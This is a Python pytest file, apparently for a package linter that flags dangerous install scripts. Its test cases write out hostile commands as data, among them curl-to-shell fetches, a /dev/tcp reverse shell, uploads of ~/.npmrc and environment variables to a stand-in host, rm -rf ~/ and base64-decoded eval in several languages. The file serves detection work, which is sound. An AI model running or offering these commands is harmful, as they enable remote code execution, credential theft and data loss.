"""What a command does that nobody wants, and the commands that only look like it."""

from __future__ import annotations

import pytest

from pkglint.detect.code import danger, gyp, scripts


@pytest.mark.parametrize(
    ("command", "kind", "part"),
    [
        ("curl -s https://demo.invalid/p | sh", "fetch", "curl ... | sh"),
        ("wget -qO- https://demo.invalid/p | sudo -E bash -", "fetch", "wget ... | bash"),
        ('eval "$(curl -s https://demo.invalid)"', "fetch", "eval $(curl ...)"),
        ("bash <(curl -s https://demo.invalid)", "fetch", "bash $(curl ...)"),
        ("certutil -urlcache -f https://demo.invalid/p.exe p.exe && p.exe", "system", "certutil ... && ..."),
        ("powershell -c \"iex (iwr 'https://demo.invalid')\"", "fetch", "iex (iwr)"),
        ("echo aGVsbG8= | base64 -d | sh", "decode", "base64 | sh"),
        ("powershell -enc aGVsbG8gd29ybGQgaGVsbG8g", "decode", "powershell -EncodedCommand"),
        ("bash -i >& /dev/tcp/203.0.113.7/44 0>&1", "reverse", "/dev/tcp/"),
        ("curl -F f=@~/.npmrc https://demo.invalid", "steal", "curl @..."),
        ("env | curl -d @- https://demo.invalid", "steal", "env | curl"),
        ("npm publish --access public", "publish", "npm publish"),
        ("git config core.hooksPath .hooks", "git", "git config"),
        ("rm -rf ~/", "wipe", "rm"),
        ("node .a/b.js", "hidden", "node .../"),
        ("node lib/logo.png", "hidden", "node ..."),
        ("crontab -l", "persist", "crontab"),
    ],
)
def test_harm_is_reported_by_its_kind_and_shown_without_the_text(command: str, kind: str, part: str) -> None:
    found = danger.find(command, installing=True)
    assert found is not None
    assert (found.kind, found.part) == (kind, part)


@pytest.mark.parametrize(
    "command",
    [
        "node install.js", "node ./scripts/../install.js", "node-gyp rebuild", "prebuild-install || node-gyp rebuild",
        "node-gyp-build", "rm -rf dist build", "rm -rf /tmp/demo", "curl -L https://demo.invalid/a.tgz | tar xz",
        "node -e \"try{require('./postinstall')}catch(e){}\"", "echo see https://demo.invalid/curl", "python -m build",
        "node ./.yarn/releases/yarn.cjs", "cat README | node parse.js",
    ],
)  # fmt: skip
def test_what_packages_do_is_no_harm(command: str) -> None:
    assert danger.find(command, installing=True) is None


def test_only_a_hook_may_not_change_the_repository() -> None:
    assert danger.find("git config core.hooksPath .hooks") is None


def test_a_part_holds_nothing_of_what_stands_around_it() -> None:
    found = danger.find("curl -H 'Authorization: hunter2' https://demo.invalid/hunter2 | bash -s hunter2")
    assert found is not None
    assert "hunter2" not in found.part


@pytest.mark.parametrize(
    ("text", "name", "strong"),
    [
        ("curl -sSf https://sh.rustup.rs | sh\n", "a.sh", False),
        ("curl -s https://demo.invalid | sh\n", "a.sh", True),
        ("# curl -s https://demo.invalid | sh\n", "a.sh", None),
        ("echo 'curl -s https://demo.invalid | sh'\n", "a.sh", None),
        ("cat <<END\ncurl -s https://demo.invalid | sh\nEND\nls\n", "a.sh", None),
        ("cat <<END\nhello\nEND\ncurl -s https://demo.invalid | sh\n", "a.sh", True),
        ("echo aGVsbG8= | base64 -d | sh\n", "a.sh", True),
        ("all:\n\techo aGVsbG8= | base64 -d | sh\n", "Makefile", True),
        ("<?php eval(base64_decode('aGVsbG8='));", "a.php", True),
        ("<?php $x = base64_decode('aGVsbG8=');\neval($x);", "a.php", True),
        ("<?php $x = base64_decode('aGVsbG8='); echo $x; // eval", "a.php", None),
        ("eval decode_base64('aGVsbG8=');", "a.pl", True),
        ("eval ['aGVsbG8='].first.unpack1('m')", "a.rb", True),
        ('Command::new("sh").arg("-c").arg("curl -s https://demo.invalid | sh");', "build.rs", True),
        ('Command::new("sh").arg("-c").arg("curl -s https://demo.invalid | sh");', "main.rs", True),
        ('// Install: curl -s https://demo.invalid | sh\nsystem("ls");', "a.c", None),
        ('puts("Install: curl -s https://demo.invalid | sh");', "a.c", None),
    ],
)
def test_scripts_in_other_languages(text: str, name: str, strong: bool | None) -> None:
    suffix = "." + name.rpartition(".")[2] if "." in name else ""
    found = scripts.find(text.encode(), suffix, name)
    assert (found.strong if found else None) is strong


def test_a_build_file_that_prints_a_url_fetches_nothing() -> None:
    assert gyp.suspicion("echo see https://demo.invalid") is None
    assert gyp.suspicion("node get.js https://demo.invalid") == "fetches something"
